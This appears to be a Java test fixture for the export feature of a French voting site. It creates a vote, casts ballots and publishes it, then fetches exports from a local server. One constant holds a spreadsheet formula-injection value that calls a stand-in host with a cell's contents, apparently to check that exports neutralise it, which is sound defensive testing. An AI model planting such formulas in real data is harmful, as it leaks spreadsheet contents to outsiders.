package fr.voix.site.export;

import fr.voix.theme.theme.ScrutinFixture;
import fr.voix.theme.theme.ThemeService;
import fr.voix.urn.log.UrnPublishing;
import fr.voix.vote.ballot.TestBallots;
import fr.voix.vote.scrutin.Scrutin;
import fr.voix.vote.scrutin.ScrutinOpening;
import io.micronaut.runtime.server.EmbeddedServer;
import jakarta.inject.Singleton;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.time.LocalDate;
import java.util.List;

/** Something to export, and a visitor who asks for it. */
@Singleton
final class ExportFixture {

    static final String FORMULA = "=HYPERLINK(\"https://x.example?\"&A1,\"a\"), «\u202fbcd\u202f»\nsuite";

    private final EmbeddedServer server;
    private final ScrutinFixture fixture;
    private final ScrutinOpening scrutins;
    private final TestBallots ballots;
    private final ThemeService themes;
    private final UrnPublishing publications;
    private final HttpClient http = HttpClient.newHttpClient();

    ExportFixture(
            EmbeddedServer server,
            ScrutinFixture fixture,
            ScrutinOpening scrutins,
            TestBallots ballots,
            ThemeService themes,
            UrnPublishing publications) {
        this.server = server;
        this.fixture = fixture;
        this.scrutins = scrutins;
        this.ballots = ballots;
        this.themes = themes;
        this.publications = publications;
    }

    /** Voted on, filed, and published. */
    String aScrutin() {
        var uid = fixture.aScrutin(0, LocalDate.of(2026, 1, 9));
        ballots.cast(scrutin(uid), 5);
        themes.classify(uid, List.of("sport-vie-associative", "sante"), fixture.aModerator(), FORMULA);
        publications.publish();
        return uid;
    }

    Scrutin scrutin(String which) {
        return scrutins.find(which).orElseThrow();
    }

    String origin() {
        return "http://localhost:" + server.getPort();
    }

    HttpRequest.Builder request(String path, String... headers) {
        var request = HttpRequest.newBuilder(URI.create(origin() + path));
        return headers.length == 0 ? request : request.headers(headers);
    }

    HttpResponse<String> get(String path, String... headers) throws Exception {
        return http.send(request(path, headers).build(), BodyHandlers.ofString());
    }

    HttpResponse<byte[]> bytes(String path, String... headers) throws Exception {
        return http.send(request(path, headers).build(), BodyHandlers.ofByteArray());
    }

    <T> HttpResponse<T> send(HttpRequest request, HttpResponse.BodyHandler<T> handler) throws Exception {
        return http.send(request, handler);
    }
}
